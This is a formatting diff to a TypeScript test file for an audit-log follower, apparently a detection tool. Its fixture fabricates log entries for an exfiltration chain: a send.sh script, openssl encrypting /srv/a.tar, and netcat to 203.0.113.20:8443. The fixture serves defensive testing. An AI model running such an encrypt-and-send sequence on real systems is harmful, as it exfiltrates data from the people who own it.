@@ -33,9 +33,21 @@ function pipeline(number: number): string[] {
   });
   const sealed = ['openssl', 'enc', '-aes-256-cbc', '-k', 'x', '-in', '/srv/a.tar'];
   return [
-    ...execLines({ ...stamp(1), arguments: ['bash', 'send.sh'], pid: shell, ppid: 900, exe: '/usr/bin/bash' }),
+    ...execLines({
+      ...stamp(1),
+      arguments: ['bash', 'send.sh'],
+      pid: shell,
+      ppid: 900,
+      exe: '/usr/bin/bash',
+    }),
     ...execLines({ ...stamp(2), arguments: sealed, pid: shell + 1, ppid: shell, exe: '/usr/bin/openssl' }),
-    ...execLines({ ...stamp(3), arguments: ['nc', '203.0.113.20', '8443'], pid: shell + 2, ppid: shell, exe: '/usr/bin/nc.openbsd' }),
+    ...execLines({
+      ...stamp(3),
+      arguments: ['nc', '203.0.113.20', '8443'],
+      pid: shell + 2,
+      ppid: shell,
+      exe: '/usr/bin/nc.openbsd',
+    }),
     ...connectLines({ ...stamp(4), pid: shell + 2, ppid: shell, saddr: saddr4('203.0.113.20', 8443) }),
   ];
 }
@@ -48,7 +60,9 @@ interface Told {
 }
 
 /** Follows a log in which the lines come in pieces, with restarts and rotations in between. */
-function followed(cuts: readonly { readonly at: number; readonly act: 'settle' | 'restart' | 'rotate' }[]): Told[] {
+function followed(
+  cuts: readonly { readonly at: number; readonly act: 'settle' | 'restart' | 'rotate' }[],
+): Told[] {
   const folder = mkdtempSync(join(tmpdir(), 'postern-follower-'));
   folders.push(folder);
   const path = join(folder, 'audit.log');
@@ -74,7 +88,8 @@ function followed(cuts: readonly { readonly at: number; readonly act: 'settle' |
     appendFileSync(path, LINES.slice(from, to).join(''));
     from = Math.max(from, to);
     if (act === 'rotate') {
-      for (let number = rotations; number > 0; number--) renameSync(`${path}.${number}`, `${path}.${number + 1}`);
+      for (let number = rotations; number > 0; number--)
+        renameSync(`${path}.${number}`, `${path}.${number + 1}`);
       renameSync(path, `${path}.1`);
       writeFileSync(path, '');
       rotations++;
